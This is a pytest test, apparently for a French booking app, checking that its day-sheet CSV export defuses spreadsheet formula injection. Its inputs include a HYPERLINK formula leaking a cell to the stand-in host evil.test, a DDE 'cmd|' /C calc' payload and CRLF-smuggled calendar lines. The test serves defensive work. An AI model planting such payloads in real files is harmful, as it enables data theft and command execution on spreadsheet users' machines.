"""Day-sheet CSV: what a person typed never runs as a spreadsheet formula (review D3)."""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import register
from tests.scenarios.garden import GARDEN_RULE, MARCH_15, TUESDAY_10, TUESDAY_11, book
from tierslieu.services.clock import frozen


@pytest.fixture(autouse=True)
def now():
    with frozen(MARCH_15):
        yield


def test_day_sheet_csv_neutralises_names_phones_and_notes(client, world):
    garden = world.garden
    response = client.post(
        f"/api/assets/{garden['id']}/availability", json=GARDEN_RULE, headers=world.staff_a.headers
    )
    assert response.status_code == 201, response.text
    formula = register(
        client,
        "formula@evil.test",
        "neighbour",
        '=HYPERLINK("http://evil.test/?d="&A1,"Cliquez ici")',
        phone="+33 1 23",
    )
    first = book(client, formula, garden["id"], note="-2+3+cmd|' /C calc'!A0")
    assert first.status_code == 201, first.text
    refused = book(  # line breaks in a name are refused at the door (D12)
        client,
        world.staff_a,
        garden["id"],
        guest={"name": "=Guest\r\nBEGIN:VEVENT\r\nSUMMARY:INJ", "phone": "-1+1"},
    )
    assert refused.status_code == 422, refused.text
    second = book(
        client,
        world.staff_a,
        garden["id"],
        guest={"name": "=Guest", "phone": "-1+1 23 45 67"},
        note="@SUM(A1:A9)\r\nBEGIN:VEVENT\r\nSUMMARY:INJ",
    )
    assert second.status_code == 201, second.text
    third = book(
        client,
        world.staff_a,
        garden["id"],
        guest={"name": '=HYPERLINK("http://evil.test","x")'},
        note="=1+1",
    )
    assert third.status_code == 201, third.text

    sheet = client.get(
        f"/api/assets/{garden['id']}/day-sheet",
        params={"date": TUESDAY_10[:10], "format": "csv"},
        headers=world.staff_a.headers,
    )
    assert sheet.status_code == 200
    assert sheet.headers["content-type"].startswith("text/csv")
    text = sheet.text
    assert text.startswith("\ufeff")  # Excel reads the accents of « confirmée »
    header, *rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert header == ["Début", "Fin", "Nom", "Personnes", "Téléphone", "Statut", "Note"]
    assert len(rows) == 3
    for row in rows:
        for cell in row:
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, row
    by_note = {row[6]: row for row in rows}
    assert by_note["'-2+3+cmd|' /C calc'!A0"][2:5] == [
        '\'=HYPERLINK("http://evil.test/?d="&A1,"Cliquez ici")',
        "1",
        "'+33 1 23",
    ]
    injected = "'@SUM(A1:A9)\r\nBEGIN:VEVENT\r\nSUMMARY:INJ"
    assert by_note[injected][2] == "'=Guest"
    assert by_note[injected][4] == "'-1+1 23 45 67"
    assert f'"{injected}"' in text  # the line breaks stay inside the quoted cell
    assert by_note["'=1+1"][2] == '\'=HYPERLINK("http://evil.test","x")'
    assert rows[0][0] == TUESDAY_10[:10] + " 10:00" and rows[0][1] == TUESDAY_11[11:16]
